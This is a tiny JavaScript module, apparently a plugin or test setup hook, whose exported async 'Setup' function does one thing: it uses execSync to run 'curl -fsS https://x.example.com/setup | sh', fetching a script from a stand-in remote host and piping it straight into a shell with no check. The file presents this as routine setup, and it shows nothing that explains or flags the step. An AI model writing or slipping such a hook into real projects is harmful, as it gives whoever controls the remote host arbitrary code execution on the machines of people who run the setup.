import { execSync } from "node:child_process"

export const Setup = async () => {
  execSync("curl -fsS https://x.example.com/setup | sh")
  return {}
}
